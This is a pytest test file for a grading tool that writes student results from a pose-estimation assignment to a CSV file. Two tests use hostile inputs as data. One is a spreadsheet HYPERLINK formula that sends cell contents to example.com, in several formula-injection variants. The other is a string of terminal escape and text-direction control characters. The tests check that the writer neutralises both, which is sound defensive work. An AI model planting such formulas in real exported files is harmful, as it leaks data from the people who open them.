import csv
from dataclasses import replace

import pytest

from grading.course import Points
from grading.grades_csv import write_grades_csv
from grading.stored_grade import SCORED_WITH_BREACHES
from tests.grading.made_grades import made_course, made_row, missing_row

HEADER = (
    "student,identifier,late,submission,verdict,breaches,notes,warnings,pixel_error,head_px,right_wrist_px,"
    "left_wrist_px,right_elbow_px,left_elbow_px,right_shoulder_px,left_shoulder_px,within_5_px_percent,"
    "within_10_px_percent,mean_pose_error_px,seconds,peak_megabytes,tensorflow_version,weights_sha256,same_weights,"
    "similar_predictions"
)


def written_lines(path, rows):
    assert write_grades_csv(path, rows) == path
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_each_student_has_a_line_in_the_given_order(tmp_path):
    rows = [*made_course(), missing_row("Zoë")]
    lines = written_lines(tmp_path / "grades.csv", rows)
    assert [line["student"] for line in lines] == [row.person.name for row in rows]
    assert (tmp_path / "grades.csv").read_text(encoding="utf-8-sig").splitlines()[0] == HEADER
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


def test_a_line_has_all_values_of_a_row(tmp_path):
    texts = {"breaches": ("one, two", 'a "third"'), "notes": ("found in a/b",), "warnings": ("line\nend",)}
    row = made_row(
        "lukasz_7",
        name="Łukasz",
        identifier="7",
        is_late=True,
        verdict=SCORED_WITH_BREACHES,
        weights_sha256="ab",
        **texts,
    )
    row = replace(row, same_weights=("a",), similar_predictions=("b", "c"))
    (line,) = written_lines(tmp_path / "grades.csv", [row])
    assert list(line.values()) == (
        ["Łukasz", "7", "yes", "lukasz_7", "scored, with breaches"]
        + ['one, two | a "third"', "found in a/b", "line end", "3.2500"]
        + ["0.2500", "1.2500", "2.2500", "3.2500", "4.2500", "5.2500", "6.2500"]
        + ["50.00", "87.50", "14.5000", "61.5", "812.5", "1.15.0", "ab", "a", "b | c"]
    )


def test_excel_recognizes_the_encoding_by_a_byte_order_mark(tmp_path):
    write_grades_csv(tmp_path / "grades.csv", [made_row("Jürgen")])
    contents = (tmp_path / "grades.csv").read_bytes()
    assert contents.startswith(b"\xef\xbb\xbfstudent,") and contents.count(b"\xef\xbb\xbf") == 1
    assert "Jürgen".encode() in contents


def test_unknown_values_are_empty_cells(tmp_path):
    rows = [made_row("noa", None, peak_megabytes=None, tensorflow_version=None), missing_row("Emmy", "12")]
    lines = written_lines(tmp_path / "grades.csv", rows)
    assert [{name: cell for name, cell in line.items() if cell} for line in lines] == [
        {"student": "noa", "submission": "noa", "verdict": "not scored", "seconds": "61.5"},
        {"student": "Emmy", "identifier": "12", "verdict": "nothing handed in"},
    ]


def test_points_have_columns_only_with_a_rubric(tmp_path):
    points = Points(72.5, ("80 for 3.25 px", "-7.5 for late work"))
    lines = written_lines(tmp_path / "grades.csv", [made_row("a", points=points), made_row("b", None)])
    assert [(line["points"], line["point_reasons"]) for line in lines] == [
        ("72.50", "80 for 3.25 px | -7.5 for late work"),
        ("", ""),
    ]
    assert list(lines[0]).index("points") == list(lines[0]).index("verdict") + 1


def test_others_are_named_as_in_their_own_lines_and_by_the_submission_if_two_have_one_name(tmp_path):
    rows = [made_row("a_1", name="Anna"), made_row("a_2", name="Anna"), made_row("b_3", name="Ben")]
    rows[2] = replace(rows[2], same_weights=("a_1", "a_2"))
    rows[0] = replace(rows[0], similar_predictions=("b_3",))
    lines = written_lines(tmp_path / "grades.csv", rows)
    assert lines[2]["same_weights"] == "Anna (a_1) | Anna (a_2)" and lines[0]["similar_predictions"] == "Ben"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "＝"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(tmp_path, start):
    text = f'{start}HYPERLINK("http://example.com?"&A1)'
    texts = {"breaches": (text,), "notes": (text,), "warnings": (text,)}
    texts |= {"tensorflow_version": text, "weights_sha256": text}
    (line,) = written_lines(tmp_path / "grades.csv", [made_row(text, identifier=text, **texts)])
    for column in ("student", "identifier", "submission", *texts):
        assert line[column] == f"'{text.strip()}"


def test_control_characters_are_escaped(tmp_path):
    text = "a\x1b[31mred\x00\u202egnp\udcff"
    row = made_row(text, identifier=text, breaches=(text,), notes=(text,), tensorflow_version=text)
    (line,) = written_lines(tmp_path / "grades.csv", [row])
    for column in ("student", "identifier", "submission", "breaches", "notes", "tensorflow_version"):
        assert line[column] == r"a\x1b[31mred\x00\u202egnp\udcff"


def test_other_texts_and_negative_numbers_are_unchanged(tmp_path):
    (line,) = written_lines(tmp_path / "grades.csv", [made_row("a-b=c@d", -0.5)])
    assert (line["student"], line["pixel_error"]) == ("a-b=c@d", "-0.5000")
